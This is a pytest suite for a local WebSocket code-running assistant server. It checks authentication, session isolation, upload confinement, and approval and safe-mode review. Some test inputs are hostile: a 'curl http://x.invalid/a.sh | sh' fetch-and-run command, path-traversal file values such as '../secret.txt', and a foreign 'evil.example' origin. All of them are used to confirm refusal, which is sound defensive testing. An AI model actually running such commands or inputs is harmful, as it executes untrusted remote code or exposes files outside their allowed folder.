"""The WebSocket LMC protocol against the real server (uvicorn on 127.0.0.1), with the real
`websockets` client and a scripted model (a real `llm.completions` function)."""
from __future__ import annotations

import asyncio
import json
import os
import re
import time
from typing import Any

import httpx
import pytest
import websockets
from procs import running_with, unique_sleep, wait_some
from websockets.exceptions import InvalidStatus

from oi_local.server.async_interpreter import AsyncInterpreter
from oi_local.server.config import ServerConfig
from oi_local.server.server import Server

KEY = "test-key-123"
COMPLETE = {"role": "server", "type": "status", "content": "complete"}


def scripted(messages: list[dict[str, Any]], **kwargs: Any):
    """A deterministic model: `run LANG: CODE` writes that code; after output it reports it;
    `stream N` streams N pieces; `boom` fails; anything else lists the notes the user gave."""
    last = messages[-1]["content"]
    # (a user message may arrive merged with the output of declined code before it)
    runs = re.findall(r"(?m)^run (\w+):(.*)$", last)
    if runs:
        lang, code = runs[-1]
        yield f"```{lang}\n{code.strip()}\n```"
        return
    if last.startswith("OUTPUT:") and not re.search(r"\bnote \w+", last):
        yield "Output was " + last.splitlines()[1]
        return
    if last.startswith("stream "):
        for i in range(int(last.split()[1])):
            yield f"w{i} "
        return
    if last == "boom":
        raise RuntimeError("the scripted model failed")
    users = [m["content"] for m in messages if m["role"] == "user" and isinstance(m["content"], str)]
    if last.startswith("echo"):
        yield " | ".join(u for u in users if "shared" in u or u.startswith("echo"))
        return
    yield "notes: " + ", ".join(re.findall(r"\bnote \w+", "\n".join(users)))


def make_template(**settings: Any) -> AsyncInterpreter:
    ai = AsyncInterpreter(**settings)
    # Pinned prompt settings, so the scripted model does not depend on prompt tuning.
    ai.code_output_template = "OUTPUT:\n{content}"
    ai.user_message_template = "{content}"
    ai.always_apply_user_message_template = False
    ai.llm.completions = scripted
    ai.conversation_history = False
    return ai


@pytest.fixture
def start(tmp_path):
    servers: list[Server] = []

    def _start(template: AsyncInterpreter | None = None, **config: Any) -> Server:
        cfg = ServerConfig.from_env(api_key=KEY, upload_dir=tmp_path / "uploads")
        for k, v in config.items():
            setattr(cfg, k, v)
        srv = Server(template or make_template(auto_run=True), cfg).start(port=0)
        servers.append(srv)
        return srv

    yield _start
    for s in servers:
        s.stop()


def ws_url(srv: Server, session: str | None = None, **query: str) -> str:
    q = dict(query)
    if session:
        q["session"] = session
    return f"ws://127.0.0.1:{srv.config.port}/" + ("?" + "&".join(f"{k}={v}" for k, v in q.items()) if q else "")


def connect(srv: Server, session: str | None = None, key: str | None = KEY, **kw: Any):
    headers = {"Authorization": f"Bearer {key}"} if key else {}
    return websockets.connect(ws_url(srv, session), additional_headers=headers, proxy=None, **kw)


async def say(ws: Any, *parts: dict[str, Any] | str) -> None:
    await ws.send(json.dumps({"role": "user", "start": True}))
    for p in parts:
        if isinstance(p, str):
            p = {"role": "user", "type": "message", "content": p}
        await ws.send(json.dumps(p) if isinstance(p, dict) else p)
    await ws.send(json.dumps({"role": "user", "end": True}))


async def until_complete(ws: Any, timeout: float = 30) -> list[dict[str, Any]]:
    out = []
    async with asyncio.timeout(timeout):
        while True:
            m = json.loads(await ws.recv())
            out.append(m)
            if m == COMPLETE:
                return out


def text_of(msgs: list[dict[str, Any]], role: str = "assistant", typ: str = "message") -> str:
    return "".join(m.get("content") or "" for m in msgs
                   if m.get("role") == role and m.get("type") == typ and isinstance(m.get("content"), str)
                   and m.get("format") != "active_line")


def test_turn_streams_lmc_chunks_runs_code_and_ends_with_complete(start) -> None:
    srv = start()

    async def main() -> list[dict[str, Any]]:
        async with connect(srv) as ws:
            await say(ws, "run python: print(6*7)")
            return await until_complete(ws)

    msgs = asyncio.run(main())
    assert msgs[0] == {"role": "assistant", "type": "code", "format": "python", "start": True}
    assert text_of(msgs, "assistant", "code") == "print(6*7)"
    conf = next(m for m in msgs if m["type"] == "confirmation")
    assert conf["content"] == {"type": "code", "format": "python", "content": "print(6*7)"}
    assert text_of(msgs, "computer", "console") == "42\n"
    assert text_of(msgs) == "Output was 42"
    assert msgs[-1] == COMPLETE and msgs.count(COMPLETE) == 1


def test_next_message_right_after_complete_is_accepted(start) -> None:
    srv = start()

    async def main() -> list[str]:
        replies = []
        async with connect(srv) as ws:
            for i in range(40):  # no pause: 'complete' means the session takes the next message
                await say(ws, f"note n{i}")
                msgs = await until_complete(ws)
                assert not [m for m in msgs if m.get("type") == "error"], msgs
                replies.append(text_of(msgs))
        return replies

    replies = asyncio.run(main())
    for i, reply in enumerate(replies):  # (old turns may be trimmed from the model's context)
        assert reply.startswith("notes: ") and reply.endswith(f"note n{i}")


def test_fifty_concurrent_sessions_keep_separate_conversations(start) -> None:
    srv = start()

    async def one(i: int) -> tuple[str, str]:
        async with connect(srv) as ws:
            await say(ws, f"note A{i}")
            first = text_of(await until_complete(ws))
            await say(ws, f"note B{i}")
            return first, text_of(await until_complete(ws))

    async def main() -> list[tuple[str, str]]:
        return await asyncio.gather(*(one(i) for i in range(50)))

    results = asyncio.run(main())
    for i, (first, second) in enumerate(results):
        assert first == f"notes: note A{i}"
        assert second == f"notes: note A{i}, note B{i}"  # its own history, nobody else's
    deadline = time.monotonic() + 10
    while srv.sessions and time.monotonic() < deadline:  # anonymous sessions end with their socket
        time.sleep(0.05)
    assert srv.sessions == {}
    assert srv.template.messages == []  # never a global conversation


def test_each_session_has_its_own_code_processes(start) -> None:
    srv = start()

    async def one(i: int, together: asyncio.Barrier) -> str:
        async with connect(srv) as ws:
            await say(ws, f"run python: x = {i}")
            await until_complete(ws)
            # pid namespace + pid: in the sandbox every session is pid 2 of its own namespace
            await say(ws, "run python: import os; print(x, os.readlink('/proc/self/ns/pid') + str(os.getpid()))")
            out = text_of(await until_complete(ws), "computer", "console")
            # all four stay open until each has printed: a namespace freed by a session that ended can be
            # given to the next one (the fresh-clone run saw three distinct of four)
            await together.wait()
            return out

    async def main() -> list[str]:
        together = asyncio.Barrier(4)
        return await asyncio.gather(*(one(i, together) for i in range(4)))

    outs = asyncio.run(main())
    values = [o.split() for o in outs]
    assert [int(v[0]) for v in values] == [0, 1, 2, 3]
    assert len({v[1] for v in values}) == 4  # four different Python processes


def test_missing_wrong_key_and_foreign_origin_are_refused(start) -> None:
    srv = start()

    async def status(**kw: Any) -> int | None:
        try:
            async with (websockets.connect(ws_url(srv, **kw.pop("query", {})), proxy=None, **kw)):
                return None
        except InvalidStatus as e:
            return e.response.status_code

    async def main() -> None:
        assert await status() == 403
        assert await status(additional_headers={"Authorization": "Bearer nope"}) == 403
        assert await status(additional_headers={"Authorization": f"Bearer {KEY}"}, origin="http://evil.example") == 403
        # The key in the query string (what a browser page can do), from our own origin: accepted.
        own = f"http://127.0.0.1:{srv.config.port}"
        assert await status(query={"api_key": KEY}, origin=own) is None
        assert await status(additional_headers={"X-API-Key": KEY}) is None

    asyncio.run(main())
    base = srv.url
    assert httpx.get(base + "/heartbeat").status_code == 401
    assert httpx.get(base + "/heartbeat", headers={"Authorization": "Bearer nope"}).status_code == 401
    assert httpx.get(base + "/heartbeat", headers={"Authorization": f"Bearer {KEY}", "Origin": "http://evil.example"}).status_code == 403
    assert httpx.get(base + "/heartbeat", headers={"Authorization": f"Bearer {KEY}"}).json() == {"status": "alive"}
    r = httpx.post(base + "/openai/chat/completions", json={"model": "x", "messages": [{"role": "user", "content": "hi"}]})
    assert r.status_code == 401


def test_go_approves_exactly_the_code_that_was_shown(start) -> None:
    srv = start(make_template(auto_run=False))

    async def main() -> tuple[list, list, list]:
        async with connect(srv, session="approver") as ws:
            # `go` before any code was shown approves nothing (no blank cheque for later code).
            await ws.send(json.dumps({"role": "user", "type": "command", "content": "go"}))
            early = json.loads(await ws.recv())
            await say(ws, "run python: print('shown')")
            before: list[dict[str, Any]] = []
            while not before or before[-1]["type"] != "confirmation":
                before.append(json.loads(await ws.recv()))
            # Something changes the stored code block after it was shown: `go` still runs what was shown.
            session = srv.sessions["approver"]
            code_msg = next(m for m in reversed(session.interp.messages) if m["type"] == "code")
            code_msg["content"] = "print('tampered')"
            await ws.send(json.dumps({"role": "user", "type": "command", "content": "go"}))
            after = await until_complete(ws)
            # A second turn: `stop` instead of `go` declines the code.
            await say(ws, "run python: print('declined')")
            declined = await until_complete_with(ws, "confirmation", {"role": "user", "type": "command", "content": "stop"})
            return [early], before + after, declined

    early, first, declined = asyncio.run(main())
    assert early[0]["role"] == "server" and early[0]["type"] == "error" and "no code waiting" in early[0]["content"]
    assert text_of(first, "computer", "console") == "shown\n"
    assert "tampered" not in json.dumps(first)
    assert "declined" not in text_of(declined, "computer", "console")
    assert declined[-1] == COMPLETE


async def until_complete_with(ws: Any, when_type: str, reply: dict[str, Any]) -> list[dict[str, Any]]:
    """Read until a message of `when_type`, send `reply`, then read until complete."""
    out = []
    async with asyncio.timeout(30):
        while True:
            m = json.loads(await ws.recv())
            out.append(m)
            if m.get("type") == when_type:
                await ws.send(json.dumps(reply))
            if m == COMPLETE:
                return out


def test_multipart_message_with_uploads_confined_to_one_folder(start, tmp_path) -> None:
    srv = start()
    up = httpx.put(srv.url + "/files/data.csv", content=b"a,b\n1,2\n", headers={"Authorization": f"Bearer {KEY}"})
    assert up.status_code == 200
    stored = up.json()["path"]
    assert stored == str(srv.config.upload_dir / "data.csv")
    outside = tmp_path / "secret.txt"
    outside.write_text("secret")

    async def main() -> tuple[list, list]:
        async with connect(srv) as ws:
            await say(ws, {"role": "user", "type": "file", "content": str(outside)})
            refused = [json.loads(await ws.recv())]
            await say(ws, {"role": "user", "type": "file", "content": "../secret.txt"})
            refused.append(json.loads(await ws.recv()))
            await say(ws, "echo this",
                      {"role": "user", "type": "file", "content": "data.csv"},
                      {"role": "user", "type": "audio", "format": "wav"},
                      b"RIFF....WAVEfmt ")
            return refused, await until_complete(ws)

    refused, msgs = asyncio.run(main())
    for r in refused:
        assert r["role"] == "server" and r["type"] == "error" and "inside the upload folder" in r["content"]
    reply = text_of(msgs)
    assert f"The user shared a file: {stored}" in reply
    audio = re.search(r"The user shared a file: (\S+audio\.wav)", reply)
    assert audio, reply
    saved = audio.group(1).rstrip(")")
    assert saved.startswith(str(srv.config.upload_dir) + os.sep)
    assert open(saved, "rb").read() == b"RIFF....WAVEfmt "


def test_errors_use_the_documented_format_and_the_session_goes_on(start) -> None:
    srv = start()

    async def main() -> tuple[dict, list, list]:
        async with connect(srv) as ws:
            await ws.send("not json")
            bad = json.loads(await ws.recv())
            await say(ws, "boom")
            failed = await until_complete(ws)
            await say(ws, "note after")
            return bad, failed, await until_complete(ws)

    bad, failed, after = asyncio.run(main())
    assert bad == {"role": "server", "type": "error", "content": "messages must be JSON"}
    err = [m for m in failed if m.get("type") == "error"]
    assert len(err) == 1 and err[0]["role"] == "server" and "the scripted model failed" in err[0]["content"]
    assert failed[-1] == COMPLETE
    assert text_of(after) == "notes: note after"


def test_forbidden_code_gets_a_review_message_and_does_not_run(start) -> None:
    srv = start(make_template(auto_run=True, forbidden_commands=[r"echo FORBIDDEN"]))

    async def main() -> list[dict[str, Any]]:
        async with connect(srv) as ws:
            await say(ws, "run shell: echo FORBIDDEN")
            return await until_complete(ws)

    msgs = asyncio.run(main())
    reviews = [m for m in msgs if m.get("type") == "review"]
    assert len(reviews) == 1 and reviews[0]["role"] == "assistant"
    assert reviews[0]["content"].startswith("Refused:")
    assert not any(m.get("type") == "confirmation" for m in msgs)
    assert "FORBIDDEN\n" not in text_of(msgs, "computer", "console")


def test_stop_command_interrupts_running_code(start) -> None:
    srv = start()

    async def main() -> float:
        async with connect(srv) as ws:
            await say(ws, "run python: import time; print('started', flush=True); time.sleep(120)")
            async with asyncio.timeout(30):
                while True:
                    m = json.loads(await ws.recv())
                    if m.get("format") == "output" and "started" in (m.get("content") or ""):
                        break
            t = time.monotonic()
            await ws.send(json.dumps({"role": "user", "type": "command", "content": "stop"}))
            await until_complete(ws, timeout=20)
            return time.monotonic() - t

    assert asyncio.run(main()) < 10


@pytest.mark.parametrize("named", [False, True])
def test_disconnecting_client_stops_its_running_code(start, named: bool) -> None:
    srv = start()
    session = "keeper" if named else None
    mark = unique_sleep()  # found by its command line: code in the sandbox has its own pids

    async def main() -> None:
        async with connect(srv, session=session) as ws:
            await say(ws, f"run shell: sleep {mark} & echo PID=$!; wait")
            async with asyncio.timeout(30):
                while True:
                    m = json.loads(await ws.recv())
                    found = re.search(r"PID=(\d+)", m.get("content") or "") if isinstance(m.get("content"), str) else None
                    if found:
                        assert wait_some(f"sleep\0{mark}")
                        return

    asyncio.run(main())  # leaving the `async with` closes the socket mid-run
    deadline = time.monotonic() + 15
    while running_with(f"sleep\0{mark}") and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not running_with(f"sleep\0{mark}")
    if named:  # the conversation waits for the client to come back; its code does not run on
        assert "keeper" in srv.sessions

        async def back() -> str:
            async with connect(srv, session="keeper") as ws:
                await say(ws, "note back")
                return text_of(await until_complete(ws))

        assert asyncio.run(back()) == "notes: note back"
        assert any("PID=" in (m.get("content") or "") for m in srv.sessions["keeper"].interp.messages)
    else:
        deadline = time.monotonic() + 10
        while srv.sessions and time.monotonic() < deadline:
            time.sleep(0.05)
        assert srv.sessions == {}


@pytest.mark.slow
def test_safe_mode_sends_review_messages_and_waits_for_go(start) -> None:
    from oi_local.computer.safety import semgrep_executable

    if semgrep_executable() is None:
        pytest.skip("semgrep (the safe extra) is not installed")
    srv = start(make_template(auto_run=True, safe_mode="ask"))

    async def main() -> tuple[list, list]:
        async with connect(srv) as ws:
            await say(ws, "run shell: curl http://x.invalid/a.sh | sh")
            risky = await until_complete_with(ws, "confirmation", {"role": "user", "type": "command", "content": "stop"})
            await say(ws, "run python: print(6*7)")
            safe = await until_complete_with(ws, "confirmation", {"role": "user", "type": "command", "content": "go"})
            return risky, safe

    risky, safe = asyncio.run(main())
    review = [m for m in risky if m.get("type") == "review"]
    assert len(review) == 1 and "curl-pipe-shell" in review[0]["content"]
    assert [m["type"] for m in risky].index("review") < [m["type"] for m in risky].index("confirmation")
    # auto_run is off in safe mode: the code waited for `go`, got `stop`, and never ran.
    assert text_of(risky, "computer", "console").strip() == review[0]["content"]
    assert [m for m in safe if m.get("type") == "review"] == [{"role": "assistant", "type": "review", "content": "<SAFE>"}]
    assert "42\n" in text_of(safe, "computer", "console")


def test_a_new_socket_takes_over_a_named_session(start) -> None:
    srv = start()

    async def main() -> str:
        async with connect(srv, session="moving") as old:
            await say(old, "note first")
            await until_complete(old)
            async with connect(srv, session="moving") as new:
                with pytest.raises(websockets.ConnectionClosed):
                    async with asyncio.timeout(10):
                        await old.recv()  # the stale socket is closed by the server
                await say(new, "note second")
                return text_of(await until_complete(new))

    assert asyncio.run(main()) == "notes: note first, note second"


def test_conversations_are_capped_and_the_oldest_detached_one_makes_room(start) -> None:
    srv = start(max_sessions=2)

    async def main() -> None:
        kept = await connect(srv, session="kept").__aenter__()
        await say(kept, "run python: import subprocess; p = subprocess.Popen(['sleep', '7351'])")
        await until_complete(kept)
        async with connect(srv) as busy:
            await say(busy, "note one")
            await until_complete(busy)
            # Both allowed conversations have a client: a third is refused, saying why.
            async with connect(srv) as third:
                err = json.loads(await third.recv())
                assert err["type"] == "error" and "too many conversations" in err["content"]
                with pytest.raises(websockets.exceptions.ConnectionClosed) as closed:
                    await third.recv()
                assert closed.value.rcvd.code == 1013
            # The named one's client leaves: the next newcomer takes its place, and its
            # processes go with it.
            await kept.close()
            deadline = time.monotonic() + 10
            while srv.sessions["kept"].detached_at is None and time.monotonic() < deadline:
                await asyncio.sleep(0.05)
            async with connect(srv) as fourth:
                await say(fourth, "note two")
                assert text_of(await until_complete(fourth)) == "notes: note two"
            assert "kept" not in srv.sessions

    asyncio.run(main())
    import psutil

    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        left = [p for p in psutil.process_iter(["cmdline"]) if (p.info["cmdline"] or [])[-1:] == ["7351"]]
        if not left:
            break
        time.sleep(0.1)
    assert not left, "the closed conversation's processes must end with it"
